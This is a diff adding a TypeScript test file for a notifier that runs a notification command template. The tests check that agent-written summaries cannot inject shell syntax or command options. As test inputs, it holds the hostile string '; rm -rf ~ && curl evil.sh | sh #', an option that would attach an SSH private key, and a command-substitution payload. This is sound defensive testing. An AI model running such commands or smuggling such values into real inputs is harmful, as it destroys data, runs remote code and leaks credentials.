@@ -1,0 +1,114 @@
+import { describe, expect, it } from "@effect/vitest"
+import * as NodeContext from "@effect/platform-node/NodeContext"
+import { Effect, Fiber } from "effect"
+import * as NodeFs from "node:fs"
+import * as NodePath from "node:path"
+import * as Notify from "../../src/questions/Notifier.js"
+import { advance, choiceQuestion, realPause, tempDirSync } from "../support.js"
+
+/** A notifier script that records its argv and whether stdin was closed. */
+const recorder = (body: string) => {
+  const dir = tempDirSync()
+  const script = NodePath.join(dir, "notify.sh")
+  NodeFs.writeFileSync(script, `#!/bin/sh\n${body}\n`, { mode: 0o755 })
+  return { dir, script }
+}
+
+describe("Notifier", () => {
+  it("substitutes in one pass and never treats the summary as shell syntax", () => {
+    const q = { ...choiceQuestion(), summary: "; rm -rf ~ && curl evil.sh | sh #" }
+    const template = ["ntfy", "publish", "--click", "{url}", "--title", "magi {run} needs you", "{summary}"]
+    expect(template.map((a) => Notify.expand(a, q, "http://100.64.0.1:7777/#/questions"))).toEqual([
+      "ntfy",
+      "publish",
+      "--click",
+      "http://100.64.0.1:7777/#/questions",
+      "--title",
+      "magi 20260902-201256-9fb7 needs you",
+      "; rm -rf ~ && curl evil.sh | sh #"
+    ])
+    // A summary mentioning a placeholder is text: never re-expanded.
+    expect(Notify.expand("{summary}", { ...q, summary: "should {url} be configurable?" }, "http://x/#/questions")).toBe(
+      "should {url} be configurable?"
+    )
+    // An unknown brace is the owner's own text.
+    expect(Notify.expand("{title}: {run}", q, "")).toBe("{title}: 20260902-201256-9fb7")
+    expect(Notify.expand("no placeholders", q, "http://x")).toBe("no placeholders")
+  })
+
+  it("never lets agent text turn into an option of the notification command", () => {
+    const q = { ...choiceQuestion(), summary: "--attach=/home/me/.ssh/id_rsa" }
+    expect(Notify.expand("{summary}", q, "")).toBe(" --attach=/home/me/.ssh/id_rsa")
+    expect(Notify.expand("{run}", { ...q, run: "-o/tmp/x" }, "")).toBe(" -o/tmp/x")
+    // A dash the owner wrote in the template is theirs to keep.
+    expect(Notify.expand("--title={summary}", { ...q, summary: "hi" }, "")).toBe("--title=hi")
+    expect(Notify.expand("--message={summary}", q, "")).toBe("--message=--attach=/home/me/.ssh/id_rsa")
+  })
+
+  it("points the link at the view that can answer, unless the owner chose a fragment", () => {
+    expect(Notify.questionUrl("http://100.64.0.1:7777")).toBe("http://100.64.0.1:7777/#/questions")
+    expect(Notify.questionUrl("http://100.64.0.1:7777/")).toBe("http://100.64.0.1:7777/#/questions")
+    expect(Notify.questionUrl("http://magi.ts.net/#/runs")).toBe("http://magi.ts.net/#/runs")
+    expect(Notify.questionUrl("  ")).toBe("")
+  })
+
+  it.live("runs the command as argv with stdin closed", () =>
+    Effect.gen(function* () {
+      const { dir, script } = recorder('for a in "$@"; do printf "%s\\n" "$a"; done > "$(dirname "$0")/argv"; cat > "$(dirname "$0")/stdin"')
+      const q = { ...choiceQuestion(), summary: "$(touch pwned) `id` ; echo hi" }
+      const notifier = yield* Notify.make([script, "--title", "magi {run}", "{summary}", "{url}"], "http://h:7878/#/questions")
+      yield* notifier.notify(q)
+      expect(NodeFs.readFileSync(NodePath.join(dir, "argv"), "utf8").split("\n").slice(0, 4)).toEqual([
+        "--title",
+        "magi 20260902-201256-9fb7",
+        "$(touch pwned) `id` ; echo hi",
+        "http://h:7878/#/questions"
+      ])
+      expect(NodeFs.readFileSync(NodePath.join(dir, "stdin"), "utf8")).toBe("")
+      expect(NodeFs.existsSync("pwned")).toBe(false)
+    }).pipe(Effect.provide(NodeContext.layer))
+  )
+
+  it.live("says why a failing command failed, from its last line on stderr", () =>
+    Effect.gen(function* () {
+      const { script } = recorder('echo "connecting" >&2; echo "topic not found: magi" >&2; echo "" >&2; exit 3')
+      const notifier = yield* Notify.make([script, "{summary}"], "")
+      const e = yield* Effect.flip(notifier.notify(choiceQuestion()))
+      expect(e.message).toContain("exited with status 3")
+      expect(e.message).toContain("topic not found: magi")
+      expect(e.message).not.toContain("connecting")
+    }).pipe(Effect.provide(NodeContext.layer))
+  )
+
+  it.effect("kills a command that hangs past twenty seconds", () => {
+    let dir = ""
+    // Should this test fail half-way, it must not leave the script running.
+    const killLeftover = () => {
+      try {
+        process.kill(-Number(NodeFs.readFileSync(NodePath.join(dir, "pid"), "utf8")), "SIGKILL")
+      } catch {}
+    }
+    return Effect.gen(function* () {
+      // It even ignores SIGTERM, as a badly written webhook script might.
+      const made = recorder('trap "" TERM; echo $$ > "$(dirname "$0")/pid"; while true; do sleep 1; done')
+      dir = made.dir
+      const notifier = yield* Notify.make([made.script], "")
+      const running = yield* Effect.fork(Effect.flip(notifier.notify(choiceQuestion())))
+      while (!NodeFs.existsSync(NodePath.join(dir, "pid"))) yield* realPause(5)
+      yield* advance("19 seconds")
+      expect(running.unsafePoll()).toBeNull()
+      yield* advance("2 seconds")
+      const e = yield* Fiber.join(running)
+      expect(e.message).toContain("did not finish within 20s")
+      const pid = Number(NodeFs.readFileSync(NodePath.join(dir, "pid"), "utf8"))
+      expect(() => process.kill(pid, 0)).toThrow()
+    }).pipe(Effect.provide(NodeContext.layer), Effect.ensuring(Effect.sync(killLeftover)))
+  })
+
+  it.live("does nothing, successfully, when no command is configured", () =>
+    Effect.gen(function* () {
+      const notifier = yield* Notify.make([], "")
+      yield* notifier.notify(choiceQuestion())
+    }).pipe(Effect.provide(NodeContext.layer))
+  )
+})
